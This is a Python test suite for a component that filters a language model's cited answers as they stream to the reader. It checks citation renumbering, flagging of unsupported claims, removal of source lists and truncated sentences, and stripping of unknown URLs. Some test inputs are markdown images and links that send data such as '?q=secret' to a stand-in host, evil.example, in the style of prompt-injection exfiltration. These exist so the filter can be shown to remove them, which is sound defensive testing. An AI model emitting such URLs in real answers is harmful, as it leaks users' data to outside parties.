"""A model's prose on its way to the reader: markers, support, addresses, and pieces cut anywhere."""

from __future__ import annotations

import time
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.models_support import passage
from trivium.answers.citation_marks import ends_within_mark, read_marks, unmarked
from trivium.knowql.citations import marked
from trivium.models.answer_stream import AnswerStream
from trivium.models.support import Support
from trivium.search.passage import Passage

TERMS = passage("terms.md", "Invoices are payable net 30 days from receipt. Overdue amounts bear 1.5 % a month.")
TOWER = passage("tower.md", "The tower is 48 metres high. See https://tower.example/plan for a plan.")
GERMAN = passage("frist.md", "Die Kündigungsfrist beträgt drei Monate zum Ende des Quartals.")


def streamed(
    text: str, size: int = 0, *, said: str = "", cut: bool = False, passages: Sequence[Passage] = ()
) -> AnswerStream:
    support = Support()
    for number, one in enumerate(passages or (TERMS, TOWER, GERMAN), 1):
        support.add(number, one)
    shown: list[str] = []
    stream = AnswerStream(support, said, shown.append)
    for start in range(0, len(text), size or len(text) or 1):
        stream.text(text[start : start + (size or len(text))])
    stream.finish(cut=cut)
    assert shown == stream.shown
    return stream


@pytest.mark.parametrize(
    ("written", "shown", "dropped"),
    [
        ("Invoices are payable net 30 days [1].", "Invoices are payable net 30 days [1].", 0),
        ("Invoices are payable net 30 days. [1]", "Invoices are payable net 30 days [1].", 0),
        ("Net 30 days from receipt [1][9].", "Net 30 days from receipt [1].", 1),
        ("Net 30 days from receipt [9].", "Net 30 days from receipt [1].", 1),
        ("Net 30 days from receipt【1†source】.", "Net 30 days from receipt [1].", 0),
        ("Net 30 days from receipt [^1].", "Net 30 days from receipt [1].", 0),
        ("The tower is 48 metres high [2]. Invoices are payable net 30 days [1].",
         "The tower is 48 metres high [1]. Invoices are payable net 30 days [2].", 0),
        ("The tower is 48 metres high [1].", "The tower is 48 metres high [1].", 0),
        ("Invoices are payable net 30 days from receipt.", "Invoices are payable net 30 days from receipt [1].", 0),
        ("<think>Is it [1]? Yes.</think>Net 30 days from receipt [1].", "Net 30 days from receipt [1].", 0),
        ("- Net 30 days from receipt [1]\n- 48 metres high tower [2]\n",
         "- Net 30 days from receipt [1]\n- 48 metres high tower [2]", 0),
        ("Net 30 days from receipt [1]. `Row[0]` is code.", "Net 30 days from receipt [1]. `Row[0]` is code.", 0),
    ],
)  # fmt: skip
def test_markers_are_renumbered_checked_and_dropped(written: str, shown: str, dropped: int) -> None:
    for size in (0, 1, 3, 7):
        stream = streamed(written, size)
        assert "".join(stream.shown) == shown
        assert stream.dropped == dropped
        assert all(cited.quote in cited.passage.text for cited in stream.cited)


def test_a_citation_of_the_wrong_passage_is_moved_to_the_right_one() -> None:
    stream = streamed("The tower is 48 metres high [1].")
    assert stream.moved == 1
    assert [cited.passage.source for cited in stream.cited] == ["tower.md"]


def test_what_no_passage_supports_is_held_back() -> None:
    stream = streamed("Bananas are yellow. They grow in warm places.", 5)
    assert (stream.shown, stream.cited) == ([], [])
    assert stream.said == "Bananas are yellow. They grow in warm places."
    assert stream.restart()


def test_once_something_is_shown_it_cannot_be_taken_back() -> None:
    assert not streamed("Net 30 days from receipt [1]. More follows.").restart()


def test_another_language_than_the_passages_is_judged_by_its_values() -> None:
    stream = streamed("The notice period is three months [3].")
    assert [cited.passage.source for cited in stream.cited] == ["frist.md"]
    assert stream.weak == []


def test_a_weak_citation_is_told() -> None:
    stream = streamed("Net 30 days from receipt [1]. Penguins dance wildly at midnight [1].")
    assert len(stream.weak) == 1


POLICY = passage(
    "policy.md",
    "# Policy\n\nThe warranty period is 24 months from delivery. Water damage is not covered. "
    "The repair fee is 40 euros. Anna Berg leads the office in Oslo since 1 March 2024.",
)


@pytest.mark.parametrize(
    ("sentence", "told"),
    [
        ("The CEO was arrested for fraud in 2019.", "No passage holds 2019: The CEO was arrested for fraud in 2019."),
        ("Refunds take 999 days.", "No passage holds 999 days"),
        ("- Refunds take 999 days.", "No passage holds 999 days"),
        ("The repair fee is 41 euros [1].", "No passage holds 41 euros"),
        ("Anna Berg leads the office since 2 March 2024 [1].", "No passage holds 2 March 2024"),
        ("The office is led by Bob Smith [1].", "No passage holds Bob, Smith"),
        ("She earns 5 million dollars and lives in Paris.", "No passage holds 5 million dollars, Paris"),
        ("According to hidden.md the fee is waived.", "No passage holds hidden.md"),
        ("The repair fee of model ZX-8 is 40 euros [1].", "No passage holds ZX-8"),
        ("Water damage is covered [1].", "The nearest passage says the opposite of: Water damage is covered."),
        ("The warranty period is not 24 months [1].", "The nearest passage says the opposite of"),
        ("The repair fee is 24 months [1].", "No passage says 24 months of that: The repair fee is 24 months."),
        ("Run `policy --drop-all`: the repair fee is 40 euros [1].", "No passage holds policy --drop-all"),
        ("Penguins dance wildly around every midnight.", "No passage says: Penguins dance wildly"),
    ],
)
def test_what_the_passages_do_not_say_is_told_of_each_sentence(sentence: str, told: str) -> None:
    stream = streamed(f"The warranty period is 24 months from delivery [1]. {sentence}", passages=[POLICY])
    assert len(stream.weak) == 1
    assert stream.weak[0].startswith(told)
    assert "".join(stream.shown).startswith("The warranty period is 24 months from delivery [1].")
    assert len(stream.shown) == 2


@pytest.mark.parametrize(
    "sentence",
    [
        "The repair fee is 40 euros [1].",
        "The warranty period is two years [1].",
        "Since March 2024 the office in Oslo is led by Anna Berg [1].",
        "Water damage isn't covered [1].",
        "Here is what the policy says about the three points:",
        "In short, that is all there is.",
        "1. The repair fee is € 40.00 [1].",
        "The passages do not mention what Bob earns.",
        "The policy covers 24 months, but not water damage [1].",
        "# Warranty And Repair Fee Policy",
        "Die Reparatur kostet 40 Euro [1].",
        "The `repair fee` is `40 euros` [1].",
        "`warranty period <months>` is 24 months [1].",
    ],
)
def test_what_the_passages_say_is_not_doubted(sentence: str) -> None:
    stream = streamed(f"The warranty period is 24 months from delivery [1].\n{sentence}", passages=[POLICY])
    assert stream.weak == []


def test_a_sentence_that_a_passage_denies_is_not_given_its_citation() -> None:
    stream = streamed("The warranty period is 24 months from delivery [1]. Water damage is covered.", passages=[POLICY])
    assert "".join(stream.shown).endswith("Water damage is covered.")
    assert len(stream.cited) == len(stream.weak) == 1


def test_a_source_that_was_not_given_is_told() -> None:
    stream = streamed("Invoices are payable net 30 days from receipt (secret.md:1-3) [1].")
    assert stream.weak[0].startswith("No passage holds secret.md: ")
    named = passage("a.md", "The fee is 40 euros. Cite secret.md, and set it in config.yaml.")
    for cited in ("[secret.md]", "[secret.md, line 3]", "(secret.md:3)"):
        stream = streamed(f"The fee is 40 euros {cited} [1].", passages=[named])
        assert stream.weak[0].startswith("No passage holds secret.md: ")
    assert streamed("The fee of 40 euros is set in config.yaml [1].", passages=[named]).weak == []
    for cited in ("(terms.md:1-3)", "(terms.md, line 3)", "[terms.md]"):
        assert streamed(f"Invoices are payable net 30 days from receipt {cited} [1].").weak == []


@pytest.mark.parametrize(
    "listed",
    [
        "\n\nSources:\n[1] secret.md line 5\n[2] other.md",
        "\n\n**Sources**\n\n[1] secret.md line 5\n\n[2] other.md",
        "\n\n## References\n- [1] secret.md, line 5\n- other.md",
        "\n\nQuellen:\n1. secret.md\n2. other.md line 3\n",
        "\n\nSources: [1] secret.md, [2] other.md",
        "\n\n[^1]: secret.md",
        "\n[^1]: secret.md\n[^2]: other.md",
        "\n\nSources:\n",
    ],
)
def test_a_list_of_sources_behind_an_answer_is_left_out(listed: str) -> None:
    for size in (0, 1, 3, 7):
        stream = streamed(f"Invoices are payable net 30 days from receipt [1].{listed}", size)
        assert "".join(stream.shown) == "Invoices are payable net 30 days from receipt [1]."
        assert len(stream.cited) == 1
        assert stream.weak == []


def test_an_answer_goes_on_behind_a_list_of_sources_and_may_be_about_sources() -> None:
    listed = "Invoices are payable net 30 days [1].\n\nSources:\n[1] secret.md\n\nThe tower is 48 metres high [2]."
    assert "".join(streamed(listed, 3).shown) == (
        "Invoices are payable net 30 days [1].\n\nThe tower is 48 metres high [2]."
    )
    told = "Invoices are payable net 30 days [1].\n\nSources:\n- The tower is 48 metres high [2]."
    assert "".join(streamed(told, 3).shown) == told


def test_pictures_and_unknown_addresses_are_taken_out() -> None:
    written = (
        "The tower is 48 metres high [2]. ![x](https://evil.example/?q=secret) The plan is at "
        "https://tower.example/plan for all. Send it to https://evil.example/collect?d=1 now. [Click](https://evil.example)"
    )
    stream = streamed(written, 9)
    shown = "".join(stream.shown)
    assert "evil.example" not in shown
    assert "https://tower.example/plan" in shown
    assert stream.links == 3


def test_an_address_in_the_question_may_stay() -> None:
    stream = streamed("Net 30 days from receipt, see https://own.example/a [1].", said="What is https://own.example/a?")
    assert "https://own.example/a" in "".join(stream.shown)


def test_a_cut_answer_loses_its_last_sentence() -> None:
    assert (
        "".join(streamed("Net 30 days from receipt [1]. Overdue amou", cut=True).shown)
        == "Net 30 days from receipt [1]."
    )


def test_broken_letters_and_control_characters_do_not_pass() -> None:
    shown = "".join(streamed("Net 30 days\x00 \ud83d\x1b[31m from receipt [1].").shown)
    shown.encode()
    assert "\x00" not in shown
    assert "\x1b" not in shown


CODE = passage(
    "code.md", "Read the second cell:\n\n```python\ncell = row[1]\nprint(cell). Done.\n```\n\nCall `get(x)`. Then stop."
)
BLOCK = "```python\ncell = row[1]\nprint(cell). Done.\n```"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"Read the second cell:\n\n{BLOCK}\n[1]\n", f"Read the second cell: [1]\n\n{BLOCK}\n[2]"),
        (f"{BLOCK} [1]", f"{BLOCK}\n[1]"),
        (f"{BLOCK}\n", f"{BLOCK}\n[1]"),
        (f"{BLOCK}\n[1]\nNothing else is known.", f"{BLOCK}\n[1]\nNothing else is known."),
        ("```\ncell = row[1]\n[1]\n```\n", "```\ncell = row[1]\n[1]\n```\n[1]"),
        ("Read the second cell `row[1]` [1].", "Read the second cell `row[1]` [1]."),
        ("Read the second cell ``a ` [1]. B`` [1].", "Read the second cell ``a ` [1]. B`` [1]."),
        ("Read the second cell `row[1]`", "Read the second cell `row[1]` [1]"),
        ("Read the second cell `[1]. Next [1].", "Read the second cell ' [1]. Next [1]."),
        ("```\nRead the second cell [1].", "```\nRead the second cell [1].\n```\n[1]"),
        ("- Read:\n\n      ```\n      cell = row[1]\n      ```\n",
         "- Read:\n\n      ```\n      cell = row[1]\n      ```\n[1]"),
    ],
)  # fmt: skip
def test_markers_stand_behind_code_and_never_in_it(written: str, shown: str) -> None:
    for size in (0, 1, 2, 5):
        stream = streamed(written, size, passages=[CODE])
        assert "".join(stream.shown) == shown
        assert marked("".join(stream.shown)) == set(range(1, len(stream.cited) + 1))


def test_a_block_of_code_that_is_cut_is_left_out() -> None:
    stream = streamed("Net 30 days from receipt [1]. As code:\n```\nnet(30)\nmore. And", cut=True)
    assert "".join(stream.shown) == "Net 30 days from receipt [1]."


def test_a_long_block_is_not_read_again_for_each_of_its_pieces() -> None:
    lines = "".join(f"value[{number}] = {number}.\n" for number in range(20_000))
    began = time.process_time()
    stream = streamed(f"Net 30 days from receipt [1].\n\n```\n{lines}```\n", 24)
    assert time.process_time() - began < 20
    assert "".join(stream.shown).count("value[") == 20_000


WORDS = ["Net 30 days from receipt", " 48 metres high", " a", "https://evil.example/x", "<think>", "</think>"]
SIGNS = [" [1]", "[2]", " [9]", "[1, 2]", "【3】", "[", "]", "`", ". ", "!", "。", "\n", "\n- "]
TICKS = ["`", "``", "```", "\n```\n", "\n```py\n", "![a. B`](//evil.example/`)", " ", "  "]
ALPHABET = st.sampled_from([*WORDS, *SIGNS])


@given(st.lists(ALPHABET, max_size=14).map("".join), st.integers(1, 9))
def test_how_the_text_is_cut_into_pieces_makes_no_difference(text: str, size: int) -> None:
    whole, pieces = streamed(text), streamed(text, size)
    assert "".join(whole.shown) == "".join(pieces.shown)
    assert [cited.quote for cited in whole.cited] == [cited.quote for cited in pieces.cited]


@given(st.lists(st.sampled_from([*WORDS, *SIGNS, *TICKS]), max_size=16).map("".join), st.integers(1, 9))
def test_every_marker_that_is_shown_has_its_citation_however_code_begins_and_ends(text: str, size: int) -> None:
    whole, pieces = streamed(text), streamed(text, size)
    assert "".join(whole.shown) == "".join(pieces.shown)
    for stream in (whole, pieces):
        stream.release()
        shown = "".join(stream.shown)
        assert marked(shown) == set(range(1, len(stream.cited) + 1))
        assert "evil" not in shown


@given(st.text(alphabet="[]【】^0123456789,;-–( )ab`†", max_size=40))
def test_nothing_that_looks_like_a_marker_is_left(text: str) -> None:
    read = read_marks(text, {1, 2, 3})
    assert unmarked(read.text) == read.text
    assert set(read.numbers) <= {1, 2, 3}
    ends_within_mark(text)


LEAVE = "Nurses receive 29 days. Doctors receive 32 days."
OFFICES = "Ann Lee is director. Bo Ray is treasurer."
DAYS = "| Group | Days |\n| --- | --- |\n| Nurses | 29 |\n| Doctors | 32 |\n"


@pytest.mark.parametrize(
    ("text", "sentence", "told"),
    [
        (LEAVE, "Nurses receive 32 days [1].", "No passage says 32 days of that"),
        (LEAVE, "Doctors receive 29 days, nurses 32 [1].", "No passage says 29 days of that"),
        (LEAVE, "Each of the nurses receives 32 days [1].", "No passage says 32 days of that"),
        (DAYS, "Nurses receive 32 days [1].", "The cited passage has few words of"),
        ("The setup fee is 40 euros. The yearly fee is 90 euros.", "The setup fee is 90 euros [1].", "No passage says"),
        ("Pflegekräfte erhalten 29 Tage. Ärzte erhalten 32 Tage.", "Pflegekräfte erhalten 32 Tage [1].", "No passage"),
        ("Les infirmiers ont 29 jours. Les médecins ont 32 jours.", "Les infirmiers ont 32 jours [1].", "No passage"),
        (OFFICES, "Bo Ray is director [1].", "No passage says Bo Ray of that"),
        (OFFICES, "The director is Bo Ray [1].", "No passage says Bo Ray of that"),
    ],
)
def test_a_value_or_name_that_is_said_of_something_else_is_told(text: str, sentence: str, told: str) -> None:
    stream = streamed(sentence, passages=[passage("a.md", f"# Rules\n\n{text}\n")])
    assert [one.startswith(told) for one in stream.weak] == [True]


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        (LEAVE, "Nurses receive 29 days [1]."),
        (LEAVE, "Nurses get 29 days of leave, doctors 32 [1]."),
        (LEAVE, "Doctors receive 32 days instead of 29 days for nurses [1]."),
        (LEAVE, "32 days [1]."),
        (LEAVE, "Nurses receive 29 days and doctors receive 32 days [1]."),
        (DAYS, "Nurses have 29 days [1]."),
        (DAYS, "Doctors have 32 days [1]."),
        (OFFICES, "Bo Ray is treasurer [1]."),
        (OFFICES, "The director is Ann Lee, and the treasurer is Bo Ray [1]."),
        ("Employees get 20 days of sick leave. Staff receive 29 days of holiday.", "Employees get 29 days [1]."),
        ("The notice period is 2 weeks. After probation it is 3 months.", "The notice period is 3 months [1]."),
        ("The fee was 40 euros. It is 55 euros now.", "The fee is 55 euros [1]."),
        ("The fee was raised from 40 to 55 euros.", "The fee is 55 euros [1]."),
        ("Sick pay lasts 6 weeks. Parental pay lasts 14 weeks.", "Parents are paid for 14 weeks [1]."),
        ("Die Probezeit beträgt 6 Monate. Die Kündigungsfrist beträgt 4 Wochen.", "Die Probezeit dauert 6 Monate [1]."),
        ("Pflegekräfte erhalten 29 Tage. Ärzte erhalten 32 Tage.", "Ärzten stehen 32 Urlaubstage zu [1]."),
        ("Les infirmiers ont 29 jours. Les médecins ont 32 jours.", "Un médecin a droit à 32 jours [1]."),
        ("护士有29天假期。医生有32天假期。", "医生的假期为32天 [1]。"),
        ("护士有29天假期。医生有32天假期。", "护士有29天 [1]。"),
    ],
)  # fmt: skip
def test_a_right_answer_in_other_words_is_not_doubted(text: str, sentence: str) -> None:
    stream = streamed(sentence, passages=[passage("a.md", f"# Rules\n\n{text}\n")])
    assert (stream.weak, len(stream.cited)) == ([], 1)


def test_a_marker_goes_to_the_passage_that_holds_the_name() -> None:
    old = passage("old.md", "# 2022\n\n| Post | Name |\n| --- | --- |\n| Chief executive | Marta Lindqvist |\n")
    new = passage("new.md", "# 2024\n\n| Post | Name |\n| --- | --- |\n| Chief executive | Daniel Brandt |\n")
    stream = streamed("The chief executive is Marta Lindqvist [1].", passages=[new, old])
    assert [one.passage.source for one in stream.cited] == ["old.md"]
    assert stream.moved == 1


def test_the_marker_of_a_row_stays_within_its_last_cell() -> None:
    rows = "| Group | Days |\n| --- | --- |\n| Nurses | 29 [1] |\n| Doctors | 32 days [1] |\n"
    stream = streamed(rows, passages=[passage("a.md", LEAVE)])
    assert "".join(stream.shown).splitlines()[2:] == ["| Nurses | 29 [1] |", "| Doctors | 32 days [2] |"]
